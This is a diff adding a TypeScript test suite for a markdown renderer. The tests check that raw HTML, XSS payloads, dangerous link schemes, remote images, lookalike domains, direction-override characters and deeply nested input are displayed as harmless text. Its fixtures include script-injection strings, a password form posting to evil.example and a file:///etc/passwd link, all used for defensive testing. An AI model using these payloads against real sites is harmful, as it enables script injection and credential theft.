@@ -1,0 +1,173 @@
+/** Texts that would run, load, mislead or break something if they were taken for more than words. */
+
+import { createMemoryHistory, createRootRoute, createRouter, RouterContextProvider } from "@tanstack/react-router";
+import { createElement } from "react";
+import { renderToStaticMarkup } from "react-dom/server";
+import { describe, expect, test } from "vitest";
+import { Elements } from "./elements";
+import { placeOf } from "./pieces";
+
+const router = createRouter({ routeTree: createRootRoute(), history: createMemoryHistory() });
+/** The text on a page with links. */
+const Page = ({ text }: { text: string }) =>
+  RouterContextProvider({ router, children: createElement(Elements, { text, level: 2 }) });
+
+/** A text as it is drawn. */
+function drawn(text: string): string {
+  return renderToStaticMarkup(createElement(Page, { text }));
+}
+
+/** What somebody reads of it. */
+function words(text: string): string {
+  return drawn(text)
+    .replaceAll(/<svg.*?<\/svg>/g, "")
+    .replaceAll(" (opens in a new tab)", "")
+    .replaceAll(/<[^>]*>/g, "")
+    .replaceAll("&lt;", "<")
+    .replaceAll("&gt;", ">")
+    .replaceAll("&quot;", '"')
+    .replaceAll("&#x27;", "'")
+    .replaceAll("&amp;", "&");
+}
+
+/** Names of all elements and their attributes. */
+function names(html: string): string[] {
+  const own = html.replaceAll(/<svg[^>]* class="lucide.*?<\/svg>/g, "");
+  return [...own.matchAll(/<([a-z0-9]+)((?:\s[^<>]*)?)>/gi)].flatMap(([, name = "", attributes = ""]) => [
+    name,
+    ...[...attributes.matchAll(/\s([a-z-]+)=/gi)].map(([, attribute]) => attribute ?? ""),
+  ]);
+}
+
+/** What words with an address within them are drawn with. */
+const HARMLESS = "div p class dir a href target rel bdi span".split(" ");
+
+describe("[W1] HTML is text", () => {
+  test.each([
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<svg/onload="alert(1)"><circle r="9"/></svg>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<style>*{display:none}</style>",
+    '<a href="javascript:alert(1)">click</a>',
+    '<form action="https://evil.example"><input name="password"></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "<!-- hidden --> shown",
+    '<![CDATA[x]]><?php echo "x" ?>',
+    "&lt;script&gt; and &#106;avascript&colon;",
+    '"><b onmouseover=alert(1)>b</b>',
+    "{{constructor.constructor('alert(1)')()}}",
+    "<div>\n\n<script>alert(1)</script>\n\n</div>",
+  ])("%j", (text) => {
+    expect(words(text).replaceAll("\n", "")).toContain(text.replaceAll("\n", ""));
+    expect(names(drawn(text)).filter((name) => !HARMLESS.includes(name))).toEqual([]);
+  });
+});
+
+describe("[W1] a link leads to pages alone, and what leads anywhere else is shown with its address", () => {
+  test.each([
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "javascript&colon;alert(1)",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "data:image/svg+xml;base64,PHN2Zz4=",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "blob:https://evil.example/1",
+    "//evil.example/sign-in",
+    "https://portal.example@evil.example",
+    "/api/auth/sign-out",
+    "/signout",
+    "/auto-signin?token=1",
+    "../../admin",
+    "ms-settings:x",
+  ])("%s", (address) => {
+    expect(names(drawn(`[click](${address})`))).not.toContain("href");
+    expect(words(`[click](${address})`)).toBe(`click (${address})`);
+  });
+
+  test.each([
+    "/\\evil.example",
+    "\\\\evil.example",
+    "/\t/evil.example",
+    "java\nscript:alert(1)",
+    " javascript:alert(1)",
+    "",
+  ])("%j leads nowhere", (address) => {
+    expect(placeOf(address)).toBeNull();
+  });
+
+  test("one that leads outside says where, whatever its words say, and hands nothing on", () => {
+    const html = drawn("[https://portal.example/sign-in](https://evil.example/sign-in)");
+    expect(html).toContain('href="https://evil.example/sign-in"');
+    expect(html).toContain('rel="noopener noreferrer nofollow"');
+    expect(words("[https://portal.example/sign-in](https://evil.example/sign-in)")).toContain("(evil.example)");
+  });
+
+  test("one with letters that look like others says the name the network uses", () => {
+    expect(words("[the portal](https://pоrtal.example)")).toContain("(xn--prtal-jye.example)");
+  });
+
+  test("one whose words turn the direction shows that, and stands apart from what surrounds it", () => {
+    expect(words("[\u202Emoc.elgoog](https://evil.example)")).toContain("[U+202E]moc.elgoog");
+    expect(drawn("[a](https://evil.example)")).toMatch(/<bdi>a<\/bdi>/);
+  });
+
+  test("an address kept apart from its link is none: words in brackets stay words", () => {
+    expect(drawn("[redacted]\n\n[redacted]: https://evil.example")).toMatch(/<p[^>]*>\[redacted\]<\/p>/);
+  });
+});
+
+describe("[W1] nothing is loaded when something is read", () => {
+  test.each([
+    "![](https://evil.example/pixel.png)",
+    "![alt](data:image/svg+xml,<svg/onload=alert(1)>)",
+    "![alt](/api/files/1)",
+    "[![a](https://evil.example/a.png)](https://evil.example/b)",
+    '![a](https://evil.example/a.png "onerror=alert(1)")',
+    "![a][b]\n\n[b]: https://evil.example/a.png",
+  ])("%j", (text) => {
+    expect(names(drawn(text))).not.toContain("img");
+    expect(names(drawn(text))).not.toContain("src");
+  });
+
+  test("a picture is a link to where it lies", () => {
+    expect(drawn("![the screen](https://example.org/a.png)")).toContain('href="https://example.org/a.png"');
+  });
+
+  test("no link stands within another", () => {
+    const html = drawn("[see TKT-1 and https://a.example ![x](https://b.example)](https://c.example)");
+    expect([...html.matchAll(/<a /g)]).toHaveLength(1);
+  });
+});
+
+describe("a text breaks no page", () => {
+  test.each([
+    ["quotes within quotes", `${">".repeat(4000)}a`],
+    ["quotes with spaces", `${"> ".repeat(2000)}a`],
+    ["lists within lists", `${"- ".repeat(2000)}a`],
+    ["numbered lists within lists", `${"1. ".repeat(1300)}a`],
+    ["lists and quotes in turn", `${"- > ".repeat(1000)}a`],
+    ["emphasis within emphasis", "*a **b ".repeat(600) + "** c*".repeat(600)],
+    ["brackets", "[".repeat(4000)],
+    ["brackets that close", `${"[".repeat(1300)}a${"](b)".repeat(600)}`],
+    ["backticks", "`".repeat(4000)],
+    ["stars", "*".repeat(4000)],
+    ["a word without end", "a".repeat(20_000)],
+    ["pictures that never end", "![".repeat(10_000)],
+    ["lines of a list", "- a\n".repeat(5000)],
+  ])("%s", (_, text) => {
+    const began = performance.now();
+    drawn(text);
+    expect(performance.now() - began).toBeLessThan(3000);
+  });
+
+  test("what is nested without end is shown as it was written", () => {
+    expect(words(`${">".repeat(4000)}a`)).toBe(`${">".repeat(4000)}a`);
+  });
+
+  test("marks that turn the direction are seen, also in code", () => {
+    expect(words("user\u202Eexe and `a\u2066b`")).toBe("user[U+202E]exe and a[U+2066]b");
+  });
+});
